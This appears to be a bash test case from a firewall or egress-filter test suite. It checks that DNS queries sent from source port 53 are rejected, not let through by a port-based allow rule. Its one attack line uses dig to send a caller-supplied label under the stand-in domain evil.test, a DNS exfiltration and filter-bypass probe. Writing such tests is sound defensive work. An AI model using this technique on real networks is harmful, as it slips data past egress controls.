# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# A rule that lets answers pass by their source port lets this pass too.
title='Questions from source port 53' origin='issue 4'
reason=not_in_allowlist who=root
attack() { client dig -b 198.18.1.2#53 +tries=1 +timeout=10 @198.18.2.53 "$1.evil.test"; }
